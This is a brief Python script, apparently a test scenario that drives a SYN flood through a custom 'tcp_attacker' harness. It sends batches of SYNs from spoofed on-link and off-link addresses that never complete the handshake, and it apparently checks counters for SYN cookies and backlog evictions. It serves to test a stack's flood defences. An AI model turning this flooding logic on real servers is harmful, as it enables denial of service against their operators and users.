#!/usr/bin/python3
"""SYN flood: SYNs from addresses of nobody, on the link (which ask for ARP) and off it; nothing is ever acknowledged."""
from tcp_attacker import Hosts, main

MARK = ("net.tcp_cookies_sent", "net.tcp_backlog_evictions", "net.tcp_drop_source_half_open")
ENDED = False


def attack(run):
    hosts = Hosts(run)
    hosts.addresses = []  # nobody answers ARP
    while run.going():
        for _ in range(50):
            src = f"{hosts.server.rsplit('.', 1)[0]}.{hosts.rng.randint(10, 250)}" if hosts.rng.random() < 0.7 else \
                f"203.0.113.{hosts.rng.randint(1, 254)}"
            hosts.syn(src, hosts.rng.randint(1024, 65535), hosts.rng.getrandbits(32))
        for _ in hosts.take():
            pass


if __name__ == "__main__":
    main(attack)
